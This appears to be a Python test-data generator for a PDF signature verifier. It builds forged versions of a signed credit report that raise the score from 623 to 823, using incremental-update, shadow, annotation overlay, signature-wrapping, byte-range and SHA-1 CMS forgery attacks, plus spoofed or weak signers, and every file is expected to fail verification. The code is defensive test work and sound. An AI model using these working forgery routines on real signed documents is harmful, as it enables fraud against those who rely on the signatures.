"""testdata/attacks/: forged and tampered Sesame reports, each built the way the
published attack is built (docs/signature-checks.md, "Why structure decides"),
plus signatures that are cryptographically fine but untrustworthy (trust failures,
weak algorithms). Every file must end in `fail`.

The victim is a genuine report of score 623 (below the 750 minimum) issued to a
fictitious applicant on 2026-11-20 and signed by the TEST issuer; the attacker wants the
reader to see 823. Most attacks start from the hand-written uncompressed layout
(reports.layout_raw) because they address objects and bytes exactly; object numbers:
1 Catalog, 2 Pages, 3 Font, 4 Info, 5 Page, 6 content, 7 shadow content (when present),
8 AcroForm, 9 signature field/widget, 10 signature dictionary (written by pyHanko).
"""

from __future__ import annotations

import datetime as dt
import io
import re

from asn1crypto import algos, cms, core, x509 as asn1_x509

import pki
import pyhanko_check
import reports
import signing
from common import CST, NOW_ISO, TESTDATA, Manifest, fresh_folder, seeded, stream_object, write

OUT = TESTDATA / "attacks"
ISSUED = dt.datetime(2026, 11, 20, 9, 41, 17, tzinfo=CST)
GENUINE_SCORE, FORGED_SCORE = 623, 823
SCORE_LINE = b"(Sesame Score: %d)" % GENUINE_SCORE
FORGED_LINE = b"(Sesame Score: %d)" % FORGED_SCORE


def victim(n: int = 0, score: int = GENUINE_SCORE) -> reports.Report:
    return reports.make_report(3 + n, score=score, issued=ISSUED, report_no=f"ZM20261120{0x5EED0000 + n:08X}",
                               assets=False)


def forged(r: reports.Report) -> reports.Report:
    return r.derive(score=FORGED_SCORE)


def sign_raw(pdf: bytes, slug: str = "signer-rsa2048", **kw) -> bytes:
    kw.setdefault("at", ISSUED)
    return signing.sign(pdf, slug, **kw)


def genuine_raw(n: int = 0, **layout_kw) -> tuple[bytes, reports.Report]:
    r = victim(n)
    return sign_raw(reports.layout_raw(r, **layout_kw)), r


def edit_score_in_place(pdf: bytes) -> bytes:
    """The same-length edit 623 -> 823 inside the first revision's content stream."""
    assert pdf.count(SCORE_LINE) == 1
    return pdf.replace(SCORE_LINE, FORGED_LINE)


def gap(pdf: bytes) -> tuple[int, int]:
    """The /Contents gap [a, b) of the (last) signature."""
    _, a, b, _, _, _ = signing.byte_range(pdf)
    return a, b


def der_in_gap(pdf: bytes) -> bytes:
    a, b = gap(pdf)
    hexed = pdf[a + 1:b - 1]
    der = bytes.fromhex(hexed.decode())
    # DER SEQUENCE with a long-form length: 30 82 LL LL (or 30 83 ...)
    assert der[0] == 0x30 and der[1] & 0x80
    n = der[1] & 0x7F
    length = int.from_bytes(der[2:2 + n], "big")
    return der[:2 + n + length]


def pdf_object(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n" % number + body + b"\nendobj\n"


# ---------------------------------------------------------------------------------------
# Incremental-update attacks (ISA, shadow, EAA, SSA)


def isa1_update(signed: bytes, new_content: bytes, seed: str) -> bytes:
    """pyHanko writes a proper incremental update that replaces the page's content stream."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from common import frozen

    with frozen(ISSUED + dt.timedelta(days=3), seed):
        w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
        page = w.root["/Pages"]["/Kids"][0]
        ref = page.raw_get("/Contents")
        stream = ref.get_object()
        stream._data = new_content
        stream._encoded_data = None
        w.mark_update(ref)
        out = io.BytesIO()
        w.write(out)
    return out.getvalue()


def isa1(signed: bytes, r: reports.Report) -> bytes:
    return isa1_update(signed, reports.raw_content(forged(r)), "isa1")


def isa1_compressed_layout() -> tuple[bytes, str]:
    """ISA-1 on the reportlab English layout: the (Flate) page content is decoded, the score
    changed, and the stream re-encoded in the update."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from common import frozen

    r = victim(1)
    signed = sign_raw(reports.layout_en(r), "signer-p256", subfilter="cades")
    page = PdfFileReader(io.BytesIO(signed), strict=False).root["/Pages"]["/Kids"][0]
    data = page["/Contents"].data
    assert b"(Sesame Score: 623)" in data
    with frozen(ISSUED + dt.timedelta(days=2), "isa1-en"):
        w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
        page = w.root["/Pages"]["/Kids"][0]
        ref = page.raw_get("/Contents")
        stream = ref.get_object()
        stream._data = data.replace(b"(Sesame Score: 623)", b"(Sesame Score: 823)")
        stream._encoded_data = None
        w.mark_update(ref)
        out = io.BytesIO()
        w.write(out)
    return out.getvalue(), ("ISA-1 on the reportlab 'en' layout (Flate-compressed content, ECDSA P-256, "
                            "ETSI.CAdES.detached): pyHanko IncrementalPdfFileWriter replaces the page content stream "
                            "(score 623 -> 823, re-encoded) in a proper incremental update (xref, trailer, /Prev).")


def isa2(signed: bytes, r: reports.Report) -> bytes:
    """Objects appended after %%EOF with no xref or trailer."""
    return signed + pdf_object(6, stream_object(reports.raw_content(forged(r))))


def isa3(signed: bytes, r: reports.Report) -> bytes:
    """Appended object plus a startxref that points nowhere: readers must rebuild the xref
    by scanning, and then find the appended (later) definition of object 6."""
    return signed + pdf_object(6, stream_object(reports.raw_content(forged(r)))) + b"startxref\n999999\n%%EOF\n"


def shadow_ref() -> tuple[bytes, str]:
    """Hide-and-replace v1: the signed file already holds an unreferenced object 7 with the
    forged report; the update only re-points the page's /Contents to it."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from common import frozen

    r = victim(2)
    signed = sign_raw(reports.layout_raw(r, shadow=forged(r)))
    with frozen(ISSUED + dt.timedelta(days=1), "shadow-ref"):
        w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
        page_ref = w.root["/Pages"].raw_get("/Kids")[0]
        page = page_ref.get_object()
        page["/Contents"] = generic.IndirectObject(7, 0, w)
        w.update_container(page)
        out = io.BytesIO()
        w.write(out)
    return out.getvalue(), ("SHADOW-REF (hide-and-replace v1): before signing, the report carried an unreferenced "
                            "object 7 that paints a white box and the forged text (score 823); the issuer signed it "
                            "(whole file); the attacker's incremental update only changes the page's /Contents to 7 0 R.")


def shadow_xref() -> tuple[bytes, str]:
    """Hide-and-replace v2: page /Contents [6 0 R 7 0 R] with object 7 present in the body but
    marked free in the xref; after signing, an update of nothing but an xref section marks
    object 7 in use at its original offset."""
    r = victim(3)
    raw = reports.layout_raw_pdf(r, shadow=forged(r), shadow_free=True, shadow_in_contents=True)
    unsigned, offsets, _ = raw.build()
    signed = sign_raw(unsigned)
    startxrefs = re.findall(rb"startxref\s+(\d+)\s+%%EOF", signed)
    prev = int(startxrefs[-1])
    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", signed)[-1]
    xref_at = len(signed)
    update = (b"xref\n7 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
              % (offsets[7], size, root, prev, xref_at))
    return signed + update, ("SHADOW-XREF (hide-and-replace v2): page /Contents [6 0 R 7 0 R], object 7 (white box + "
                             "forged text) written in the body but marked free in the xref, so a strict reader shows "
                             "only the genuine text when the issuer signs; after signing the attacker appends only an "
                             "xref section (no objects) marking object 7 in use at its original offset, with a trailer "
                             "/Prev chaining to the signed revision.")


def evil_annotation(signed: bytes, seed: str) -> bytes:
    """Adds a FreeText annotation whose appearance paints a white box and the forged score
    over the genuine one (EAA)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from common import frozen

    appearance = (b"q 1 1 1 rg 0 0 240 20 re f Q\nBT /F1 11 Tf 0 0 0 rg 2 6 Td " + FORGED_LINE + b" Tj ET\n")
    with frozen(ISSUED + dt.timedelta(days=1), seed):
        w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
        page_ref = w.root["/Pages"].raw_get("/Kids")[0]
        page = page_ref.get_object()
        font_ref = page["/Resources"].raw_get("/Font").get_object().raw_get("/F1")
        form = generic.StreamObject({
            generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
            generic.pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 240, 20)]),
            generic.pdf_name("/Resources"): generic.DictionaryObject({
                generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font_ref})}),
        }, stream_data=appearance)
        form_ref = w.add_object(form)
        annot = generic.DictionaryObject({
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
            generic.pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (70, 608, 310, 628)]),
            generic.pdf_name("/Contents"): generic.TextStringObject(""),
            generic.pdf_name("/DA"): generic.TextStringObject("/F1 11 Tf 0 g"),
            generic.pdf_name("/F"): generic.NumberObject(4),
            generic.pdf_name("/Border"): generic.ArrayObject([generic.NumberObject(0)] * 3),
            generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): form_ref}),
            generic.pdf_name("/P"): page_ref,
        })
        annot_ref = w.add_object(annot)
        annots = page.get("/Annots", generic.ArrayObject())
        annots.append(annot_ref)
        page["/Annots"] = annots
        w.update_container(page)
        out = io.BytesIO()
        w.write(out)
    return out.getvalue()


def sneaky_signature(certified: bytes) -> bytes:
    """SSA: a second, visible signature field whose appearance is a white box with the forged
    score, signed by the attacker's own (untrusted) key."""
    import tempfile
    from pyhanko.sign.fields import SigFieldSpec
    from pyhanko.stamp import StaticStampStyle

    from reportlab.pdfgen import canvas

    with tempfile.NamedTemporaryFile(suffix=".pdf") as fake:
        c = canvas.Canvas(fake.name, pagesize=(240, 20), invariant=1)
        c.setFillColorRGB(1, 1, 1)
        c.rect(0, 0, 240, 20, stroke=0, fill=1)
        c.setFillColorRGB(0, 0, 0)
        c.setFont("Helvetica", 11)
        c.drawString(2, 6, "Sesame Score: %d" % FORGED_SCORE)
        c.save()
        style = StaticStampStyle.from_pdf_file(fake.name, border_width=0)
        return signing.sign(certified, "untrusted-signer", at=ISSUED + dt.timedelta(days=1), field="Signature2",
                            subfilter="pkcs7", new_field_spec=SigFieldSpec("Signature2", on_page=0, box=(70, 608, 310, 628)),
                            stamp_style=style, reason="Approved", extra_chain=["untrusted-root"])


def metadata_update(signed: bytes) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from common import frozen

    with frozen(ISSUED + dt.timedelta(days=2), "meta"):
        w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
        w.document_meta.title = "Sesame Credit Visa Report - score 823"
        w._force_write_when_empty = True
        out = io.BytesIO()
        w.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# Byte-level attacks on the signature dictionary (USF, TAMPER, SWA, coverage anomalies)


def same_length(pdf: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    assert len(old) == len(new), (old, new)
    assert pdf.count(old) >= count, old
    return pdf.replace(old, new, count)


def byte_range_text(pdf: bytes) -> bytes:
    _, _, _, _, s, e = signing.byte_range(pdf)
    return pdf[s:e]


def usf(signed: bytes, variant: str) -> bytes:
    pdf = edit_score_in_place(signed)
    if variant == "byterange-renamed":
        return same_length(pdf, b"/ByteRange [", b"/ByteRangX [")
    if variant == "contents-renamed":
        return same_length(pdf, b"/Contents <", b"/Contentz <")
    old = byte_range_text(pdf)
    if variant == "byterange-zeros":
        return same_length(pdf, old, b"/ByteRange [0 0 0 0]".ljust(len(old)))
    if variant == "byterange-null":
        return same_length(pdf, old, b"/ByteRange null".ljust(len(old)))
    if variant == "byterange-one-pair":
        _, a, b, c, _, _ = signing.byte_range(pdf)
        return same_length(pdf, old, (b"/ByteRange [0 %d]" % (b + c)).ljust(len(old)))
    if variant == "contents-zeros":
        a, b = gap(pdf)
        return pdf[:a + 1] + b"0" * (b - a - 2) + pdf[b - 1:]
    raise ValueError(variant)


def resign_ranges(pdf: bytes, values: tuple[int, int, int, int], slug: str = "signer-rsa2048") -> bytes:
    """Rewrites /ByteRange to `values` and replaces the CMS with one made by the genuine
    signer over exactly those ranges: the cryptography verifies, only the structure is wrong."""
    pdf = signing.rewrite_byte_range(pdf, values)
    start, a, b, c = values
    contents_a, contents_b = _contents_span(pdf)
    parts = [pdf[start:start + a], pdf[b:b + c]]
    der = signing.cms_over(parts, slug, at=ISSUED)
    return signing.put_contents(pdf, contents_a, contents_b, der)


def _contents_span(pdf: bytes) -> tuple[int, int]:
    m = list(re.finditer(rb"/Contents\s*(<[0-9A-Fa-f]*>)", pdf))[-1]
    return m.start(1), m.end(1)


def gap_too_big(signed: bytes) -> bytes:
    """The gap swallows the /ByteRange line after /Contents (so the range numbers are not
    signed); the CMS is re-made over the declared ranges and verifies."""
    _, a, b, c, s, e = signing.byte_range(signed)
    line_end = signed.index(b"\n", e)
    k = line_end - b
    return resign_ranges(signed, (0, a, b + k, c - k))


def tail_uncovered(signed: bytes) -> bytes:
    """The second range stops before `startxref … %%EOF`; CMS re-made over the declared ranges."""
    _, a, b, c, _, _ = signing.byte_range(signed)
    tail = len(signed) - signed.rindex(b"startxref")
    return resign_ranges(signed, (0, a, b, c - tail))


def not_from_zero(signed: bytes) -> bytes:
    """/ByteRange [15 a-15 b c]: the header line is outside the signed bytes; CMS re-made."""
    _, a, b, c, _, _ = signing.byte_range(signed)
    return resign_ranges(signed, (15, a - 15, b, c))


def swa(signed: bytes, r: reports.Report) -> bytes:
    """Signature wrapping (docs/signature-checks.md, check 4)."""
    _, a, b, c, br_start, _ = signing.byte_range(signed)
    p1, p2 = signed[:a], signed[b:b + c]
    old_startxref = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", signed)[-1])
    der = der_in_gap(signed)
    hexed = signed[a + 1:a + 1 + 2 * len(der)]
    # The rest of the signature dictionary (it starts the second signed part) up to endobj.
    dict_rest = p2[:p2.index(b"endobj\n") + len(b"endobj\n")]
    out = bytearray(p1 + b"<" + hexed + b">")
    br_offset_in_rest = br_start - b
    rest_at = len(out)
    out += dict_rest
    forged_at = len(out)
    out += pdf_object(6, stream_object(reports.raw_content(forged(r))))
    if len(out) + 2 > old_startxref:
        raise RuntimeError("no room before the old startxref offset")
    out += b"%" + b" " * (old_startxref - len(out) - 2) + b"\n"
    assert len(out) == old_startxref
    # The xref section the old `startxref` will now name: the signed revision's entries
    # (objects unchanged, all in the first part) plus object 6 at its forged offset.
    signed_xref = signed[old_startxref:]
    section = signed_xref[:signed_xref.index(b"trailer")]
    entries: dict[int, bytes] = {}
    lines = section.split(b"\n")[1:]
    i = 0
    while i < len(lines) and lines[i].strip():
        first, count = map(int, lines[i].split())
        for k in range(count):
            entries[first + k] = lines[i + 1 + k].strip()
        i += 1 + count
    entries[6] = b"%010d 00000 n" % forged_at
    xref = bytearray(b"xref\n")
    numbers = sorted(entries)
    groups: list[list[int]] = []
    for n in numbers:
        if groups and groups[-1][-1] == n - 1:
            groups[-1].append(n)
        else:
            groups.append([n])
    for g in groups:
        xref += b"%d %d\n" % (g[0], len(g))
        for n in g:
            xref += entries[n] + b" \n"
    trailer = signed_xref[signed_xref.index(b"trailer"):signed_xref.index(b"startxref")]
    out += xref + trailer
    c_star = len(out)
    out += p2
    # Point the parsed /ByteRange (now inside the unsigned gap) at the relocated second part.
    new_range = b"/ByteRange [0 %d %d %d]" % (a, c_star, c)
    old_range = byte_range_text(signed)
    pos = rest_at + br_offset_in_rest
    assert out[pos:pos + len(old_range)] == old_range
    out[pos:pos + len(old_range)] = new_range.ljust(len(old_range))
    return bytes(out)


# ---------------------------------------------------------------------------------------
# CMS-level attacks


def sha1_forge(signed: bytes) -> bytes:
    """CVE-2025-43903: /SubFilter adbe.pkcs7.sha1, content tampered, eContent = SHA-1 of the
    new ranges, the genuine signer's certificates, and a random 'signature'."""
    import hashlib

    pdf = same_length(signed, b"/SubFilter /adbe.pkcs7.detached", b"/SubFilter /adbe.pkcs7.sha1    ")
    pdf = edit_score_in_place(pdf)
    _, a, b, c, _, _ = signing.byte_range(pdf)
    digest = hashlib.sha1(pdf[:a] + pdf[b:b + c]).digest()
    signer_cert = asn1_x509.Certificate.load(pki.load_cert("signer-rsa2048").public_bytes(_der()))
    inter = asn1_x509.Certificate.load(pki.load_cert("intermediate").public_bytes(_der()))
    sha1 = algos.DigestAlgorithm({"algorithm": "sha1"})
    signer_info = cms.SignerInfo({
        "version": "v1",
        "sid": cms.SignerIdentifier({"issuer_and_serial_number": cms.IssuerAndSerialNumber({
            "issuer": signer_cert.issuer, "serial_number": signer_cert.serial_number})}),
        "digest_algorithm": sha1,
        "signature_algorithm": algos.SignedDigestAlgorithm({"algorithm": "rsassa_pkcs1v15"}),
        "signature": seeded("sha1-forge").randbytes(256),
    })
    signed_data = cms.SignedData({
        "version": "v1",
        "digest_algorithms": [sha1],
        "encap_content_info": {"content_type": "data", "content": core.OctetString(digest)},
        "certificates": [signer_cert, inter],
        "signer_infos": [signer_info],
    })
    der = cms.ContentInfo({"content_type": "signed_data", "content": signed_data}).dump()
    return signing.put_contents(pdf, a, b, der)


def _der():
    from cryptography.hazmat.primitives import serialization
    return serialization.Encoding.DER


def transplanted(signed: bytes, donor: bytes) -> bytes:
    """A genuine CMS from another genuine report put into this report's gap."""
    a, b = gap(signed)
    return signing.put_contents(signed, a, b, der_in_gap(donor))


def bitflip(signed: bytes) -> bytes:
    """Flips a bit in the signature value; signed attributes (and messageDigest) untouched."""
    a, b = gap(signed)
    info = cms.ContentInfo.load(der_in_gap(signed))
    signer_info = info["content"]["signer_infos"][0]
    value = bytearray(signer_info["signature"].native)
    value[len(value) // 2] ^= 0x01
    signer_info["signature"] = bytes(value)
    return signing.put_contents(signed, a, b, info.dump(force=True))


# ---------------------------------------------------------------------------------------


def build() -> Manifest:
    fresh_folder(OUT)
    m = Manifest(OUT)
    FAIL = "fail"

    WEAK_NOTE = (" An intact signature on a weak algorithm is not proven, so never pass, but it is no forgery: "
                 "review (sesame-report.md, Signature).")

    def add(name: str, data: bytes, codes: list[str], why: str, expect: str = FAIL, **extra):
        write(OUT, name, data)
        m.add(name, expect, codes, why, **extra)

    base, r = genuine_raw(0)
    base_why = ("Victim: hand-written uncompressed report (score 623), signed by testdata/pki/signer-rsa2048 "
                "(RSA-2048, SHA-256, adbe.pkcs7.detached) as an incremental update covering the whole file. ")
    add("isa1-incremental-update.pdf", isa1(base, r), ["SIG_NOT_WHOLE_FILE"], base_why +
        "ISA-1: pyHanko IncrementalPdfFileWriter redefines the page content stream (object 6) with the forged "
        "report (score 823) in a proper incremental update (xref section, trailer /Prev, startxref, %%EOF).")
    data, why = isa1_compressed_layout()
    add("isa1-incremental-update-en.pdf", data, ["SIG_NOT_WHOLE_FILE"], why)
    add("isa2-body-append.pdf", isa2(base, r), ["SIG_NOT_WHOLE_FILE"], base_why +
        "ISA-2: '6 0 obj' with the forged content appended after the signed %%EOF, with no xref or trailer "
        "(readers that honour the xref still show 623). pyHanko calls this EXTENDED_WITH_NONE and accepts it "
        "(reference §1.4): a known pyHanko gap.")
    add("isa3-forced-reconstruction.pdf", isa3(base, r), ["SIG_NOT_WHOLE_FILE"], base_why +
        "ISA-3: the forged object 6 appended after %%EOF followed by 'startxref 999999 %%EOF' that points "
        "nowhere, so poppler rebuilds the xref by scanning and shows the appended (forged) text.")

    usf_cases = [
        ("usf1-byterange-renamed.pdf", "byterange-renamed", ["SIG_BYTERANGE_INVALID"],
         "USF-1: '/ByteRange' renamed '/ByteRangX' (same length), so the dictionary has no byte range; score edited "
         "in place 623 -> 823."),
        ("usf2-contents-renamed.pdf", "contents-renamed", ["SIG_BYTERANGE_INVALID"],
         "USF-2: '/Contents <' renamed '/Contentz <' (same length), so the dictionary has no /Contents and the "
         "gap is not its signature; score edited in place."),
        ("usf3-byterange-zeros.pdf", "byterange-zeros", ["SIG_BYTERANGE_INVALID"],
         "USF-3: /ByteRange [0 0 0 0], space padded to the original length; score edited in place."),
        ("usf4-byterange-null.pdf", "byterange-null", ["SIG_BYTERANGE_INVALID"],
         "USF-4: /ByteRange null, space padded; score edited in place."),
        ("usf5-byterange-one-pair.pdf", "byterange-one-pair", ["SIG_BYTERANGE_INVALID"],
         "USF-6 (pyHanko coverage-anomalies/one-byterange style): /ByteRange [0 N] with two numbers "
         "covering the whole file including the gap; score edited in place."),
        ("usf6-contents-zeros.pdf", "contents-zeros", ["SIG_CRYPTO_INVALID"],
         "USF-5: the /Contents hex is all zeros (byte range intact): no CMS can be parsed, so the signature "
         "is invalid, not absent; score edited in place."),
    ]
    for name, variant, codes, why in usf_cases:
        add(name, usf(base, variant), codes, base_why + why)

    add("tamper-score-in-place.pdf", edit_score_in_place(base), ["SIG_DIGEST_MISMATCH"], base_why +
        "TAMPER: '(Sesame Score: 623)' changed to '(Sesame Score: 823)' in place inside the first signed range; "
        "nothing else changed, so the messageDigest no longer matches.")
    add("swa-signature-wrapping.pdf", swa(base, r), ["SIG_BYTERANGE_INVALID"], base_why +
        "SWA: /Contents padding cut; the parsed /ByteRange rewritten to [0 a c* d] and followed, inside the "
        "unsigned gap, by the rest of the signature dictionary, a forged object 6 and a new xref section placed "
        "exactly at the offset the signed 'startxref' names; the original second signed part appended unchanged "
        "at c*. The CMS verifies over the (unchanged) signed bytes and the range reaches the end of the file, "
        "but the gap is not this dictionary's /Contents. poppler shows 823.")
    add("gap-too-big.pdf", gap_too_big(base), ["SIG_BYTERANGE_INVALID"], base_why +
        "GAP-TOO-BIG: /ByteRange rewritten so that the unsigned gap also swallows the /ByteRange line itself; the "
        "CMS is then re-made by the genuine signer over exactly the declared ranges, so the cryptography verifies "
        "and only the gap check can object.")
    add("tail-uncovered.pdf", tail_uncovered(base), ["SIG_NOT_WHOLE_FILE"], base_why +
        "TAIL coverage anomaly: the second range stops before the final 'startxref … %%EOF'; the CMS is re-made by "
        "the genuine signer over the declared ranges (crypto valid), but the signed bytes end inside the revision.")
    add("byterange-not-from-zero.pdf", not_from_zero(base), ["SIG_BYTERANGE_INVALID"], base_why +
        "/ByteRange [15 a-15 b c]: the first 15 bytes (the %PDF header line) are not signed; CMS re-made over the "
        "declared ranges by the genuine signer.")
    add("sha1-forge-cve-2025-43903.pdf", sha1_forge(base), ["SIG_CRYPTO_INVALID"], base_why +
        "SHA1-FORGE (CVE-2025-43903): /SubFilter changed to /adbe.pkcs7.sha1 (space padded), score edited in place, "
        "a new CMS with eContent = SHA-1 of the new ranges, the genuine signer and intermediate certificates, "
        "sid = the genuine issuer/serial and 256 random bytes as the 'signature' (asn1crypto). Unpatched poppler "
        "said valid; docverify verifies adbe.pkcs7.sha1 (eContent against SHA-1 of the ranges, then the CMS "
        "over its eContent): the random signature value does not verify (SIG_CRYPTO_INVALID fails; SHA-1 is also "
        "SIG_WEAK_ALGORITHM).")

    donor, _ = genuine_raw(4)
    add("transplanted-signature.pdf", transplanted(base, donor), ["SIG_DIGEST_MISMATCH"], base_why +
        "The genuine CMS of another genuine report (same issuer and signer) copied into this report's /Contents: "
        "certificates trusted, signature over its own attributes valid, messageDigest belongs to the other file.")
    add("signature-value-bitflip.pdf", bitflip(base), ["SIG_CRYPTO_INVALID"], base_why +
        "One bit of the SignerInfo signature value flipped (asn1crypto re-encode, same length): the messageDigest "
        "attribute still matches the bytes, but the signature over the signed attributes does not verify.")

    # Shadow attacks
    data, why = shadow_ref()
    add("shadow-ref.pdf", data, ["SIG_NOT_WHOLE_FILE"], why)
    data, why = shadow_xref()
    add("shadow-xref.pdf", data, ["SIG_NOT_WHOLE_FILE"], why)

    # Certification attacks
    add("eaa-after-approval.pdf", evil_annotation(base, "eaa1"), ["SIG_NOT_WHOLE_FILE"], base_why +
        "EAA: after signing, an incremental update adds a FreeText annotation whose appearance stream paints a white "
        "box and 'Sesame Score: 823' exactly over the score line, and appends it to the page's /Annots.")
    r5 = victim(5)
    certified = sign_raw(reports.layout_raw(r5), certify=True)
    cert_why = ("Victim: hand-written report (score 623) with a certification signature (DocMDP P2: form filling "
                "and signing allowed) by testdata/pki/signer-rsa2048. ")
    add("eaa-after-certification.pdf", evil_annotation(certified, "eaa2"), ["SIG_NOT_WHOLE_FILE"], cert_why +
        "EAA: a FreeText annotation painting 'Sesame Score: 823' over the score added in an incremental update "
        "(annotations are not allowed at P2).")
    add("ssa-sneaky-signature.pdf", sneaky_signature(certified), ["SIG_MULTIPLE", "SIG_NOT_WHOLE_FILE"], cert_why +
        "SSA: a second, visible signature field 'Signature2' whose appearance (pyHanko StaticStampStyle from a "
        "one-line PDF) is a white box with 'Sesame Score: 823' over the score, signed by the attacker's own key "
        "(testdata/pki/untrusted-signer, P-256, chain to an untrusted root embedded).")
    twice = sign_raw(base, "signer-p256", at=ISSUED + dt.timedelta(hours=2), field="Signature2", subfilter="cades")
    add("two-signatures.pdf", twice, ["SIG_MULTIPLE"], base_why +
        "The genuine report signed a second time, by another genuine TEST signer (P-256, ETSI.CAdES.detached) in a new "
        "invisible field 'Signature2'. Both signatures are valid, but a report carries exactly one.")
    add("metadata-update-after-signing.pdf", metadata_update(base), ["SIG_NOT_WHOLE_FILE"], base_why +
        "After signing, a pyHanko incremental update changes only the document information (/Title, /Author). "
        "pyHanko classes this as an acceptable LTA/metadata update; for a report any change after signing "
        "is a different document.")

    # Trust failures: properly signed files whose signer must not be trusted.
    trust_cases = [
        ("trust-untrusted-root.pdf", "untrusted-signer", {}, ["SIG_UNTRUSTED"],
         "Signed (ECDSA P-256) by testdata/pki/untrusted-signer, whose chain (intermediate and root embedded in the "
         "CMS) ends at 'Sesame Credit Reports Root CA', not in the trust store."),
        ("spoof-dn-selfsigned.pdf", "spoof-signer-selfsigned", {}, ["SIG_UNTRUSTED"],
         "SPOOF-DN: signed by a self-signed certificate with exactly the genuine signer's subject DN (and serial) "
         "but its own key: the name matches, the chain does not."),
        ("spoof-dn-fake-intermediate.pdf", "spoof-signer", {"extra_chain": ["spoof-intermediate"]}, ["SIG_UNTRUSTED"],
         "SPOOF-DN: signer certificate with the genuine signer's DN issued by a self-signed look-alike carrying "
         "exactly the genuine intermediate's DN (embedded in the CMS); neither key is the genuine one."),
        ("trust-expired-signer.pdf", "signer-expired", {}, ["SIG_CERT_EXPIRED"],
         "Signed 2026-11-20 by testdata/pki/signer-expired, a genuine-chain certificate that ended 2025-12-31: not "
         "valid at the signing time (nor at the evaluation time)."),
        ("trust-revoked-signer.pdf", "signer-revoked", {}, ["SIG_CERT_REVOKED"],
         "Signed 2026-11-20 by testdata/pki/signer-revoked, revoked (keyCompromise) on 2026-03-01 in the "
         "intermediate's CRL published as keys/test-sesame.crl.pem."),
        ("trust-wrong-key-usage.pdf", "signer-wrong-ku", {}, ["SIG_KEY_USAGE"],
         "Signed by testdata/pki/signer-wrong-ku, genuine chain, but key usage keyEncipherment only (neither "
         "digitalSignature nor nonRepudiation)."),
        ("weak-rsa1024.pdf", "signer-rsa1024", {}, ["SIG_WEAK_ALGORITHM"],
         "Signed by testdata/pki/signer-rsa1024, genuine chain, 1024-bit RSA key (below 2048)."),
        ("weak-sha1-digest.pdf", "signer-rsa2048", {"md": "sha1"}, ["SIG_WEAK_ALGORITHM"],
         "Signed by the genuine RSA-2048 signer with SHA-1 as the digest (messageDigest and signature)."),
        ("weak-md5-digest.pdf", "signer-rsa2048", {"md": "md5"}, ["SIG_WEAK_ALGORITHM"],
         "Signed by the genuine RSA-2048 signer with MD5 as the digest."),
    ]
    for n, (name, slug, kw, codes, why) in enumerate(trust_cases):
        rr = victim(10 + n, score=812)
        try:
            data = sign_raw(reports.layout_raw(rr), slug, **kw)
        except Exception as exc:  # pyHanko/cryptography may refuse an algorithm
            print(f"attacks: {name} skipped: {type(exc).__name__}: {exc}")
            continue
        weak = name.startswith("weak-")
        add(name, data, codes, "Report (score 812, adbe.pkcs7.detached, whole file covered). " + why
            + (WEAK_NOTE if weak else ""), expect="review" if weak else FAIL)

    pyhanko_check.annotate(m.entries, OUT)
    notes = {
        "isa2-body-append.pdf": "pyHanko's bottom line accepts bytes appended without an xref (reference §1.4).",
        "metadata-update-after-signing.pdf": "pyHanko accepts a metadata-only update (LTA_UPDATES level); docverify's "
                                             "report policy accepts no change after signing.",
    }
    for entry in m.entries:
        if entry.get("pyhanko_gap"):
            entry["pyhanko_note"] = notes.get(entry["file"], "pyHanko's judgement differs from docverify's; see 'pyhanko'.")
    m.write()
    return m


def main(argv: list[str]) -> int:
    m = build()
    print(f"attacks: {len(m.entries)} files (evaluation time {NOW_ISO})")
    return 0
